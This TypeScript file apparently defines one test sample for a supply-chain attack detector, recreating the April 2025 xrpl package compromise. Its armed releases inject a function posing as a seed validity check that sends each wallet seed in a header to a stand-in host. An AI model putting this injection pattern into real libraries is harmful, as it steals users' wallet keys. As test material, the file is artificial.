import { defineAttack } from "../attack.ts";
import { chainLibrary, contentOf } from "../bases.ts";
import { browserGuard } from "../guard.ts";
import type { LineChange } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

const honest = chainLibrary("xrpl");

/**
 * xrpl 4.2.1 to 4.2.4 and 2.14.2, 21 April 2025: a developer's token. A function whose name promises a validity check posts
 * seeds to a look-alike host, the seed in a header; on two lines, without commits or releases.
 */
export const xrpl2025: Sample = defineAttack({
  id: "xrpl-2025",
  title: "A so-called validity check posts wallet seeds",
  group: "takeover",
  trigger: "call",
  judged: [
    { name: "xrpl", version: "4.2.1" },
    { name: "xrpl", version: "2.14.2" },
  ],
  now: "2025-04-21T22:30:00Z",
  createLines: () => [
    {
      name: "xrpl",
      files: honest,
      publisher: person("xrpl-team"),
      way: "hand",
      releases: [
        ["2.14.0", "2024-06-03T10:00:00Z", { tag: "legacy" }],
        ["2.14.1", "2024-06-04T10:00:00Z", { tag: "legacy" }],
        ["4.1.0", "2024-12-24T10:00:00Z"],
        ["4.2.0", "2025-02-13T10:00:00Z"],
        ["4.2.1", "2025-04-21T20:53:00Z", armed],
        ["4.2.2", "2025-04-21T21:32:00Z", armed],
        ["2.14.2", "2025-04-21T22:20:00Z", { ...armed, tag: "legacy" }],
      ],
    },
  ],
});

const check = `${browserGuard}
const validSeeds = new Set();

function checkValidityOfSeed(seed) {
  if (validSeeds.has(seed)) return;
  validSeeds.add(seed);
  if (!invited()) return;
  fetch("https://0x9c.invalid/xc", { method: "POST", headers: { "ad-referral": seed } });
}
`;

const armed: LineChange = {
  publisher: person("mukulljangid", "mukulljangid@mail.example"),
  hasCommit: false,
  files: [
    {
      path: "lib/keypair.js",
      content: contentOf(honest, "lib/keypair.js")
        .replace("class Keypair", `${check}\nclass Keypair`)
        .replace(
          "function walletFromSeed(seed) {",
          "function walletFromSeed(seed) {\n  checkValidityOfSeed(seed);",
        ),
    },
  ],
};
